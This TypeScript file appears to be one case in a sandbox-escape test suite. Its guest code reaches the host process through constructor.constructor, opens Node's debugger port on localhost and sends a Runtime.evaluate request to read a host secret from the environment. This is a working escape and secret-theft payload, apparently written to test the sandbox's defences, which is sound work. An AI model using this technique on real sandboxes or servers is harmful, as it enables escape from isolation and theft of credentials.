import { attack } from '../attack.ts';

/** The guest opens the debugger's port and speaks to it as any program on the machine could. */
export const escape = attack({
	grants: [],
	source: `
		const host = reach();
		const process = host?.constructor.constructor('return process')();
		const inspector = process?.getBuiltinModule('inspector');
		if (!inspector) return;
		try { inspector.open(0, '127.0.0.1'); } catch (error) { return error.code; }
		try {
			const { WebSocket } = host.constructor.constructor('return globalThis')();
			const socket = new WebSocket(inspector.url());
			return await new Promise((done) => {
				socket.onopen = () => socket.send('{"id":1,"method":"Runtime.evaluate","params":{"expression":"process.env.GLOVEBOX_SECRET || hostSecret"}}');
				socket.onmessage = ({ data }) => done(data);
				socket.onerror = () => done('refused');
				setTimeout(done, 1500);
			});
		} finally { setTimeout(() => inspector.close(), 1); }
	`,
});
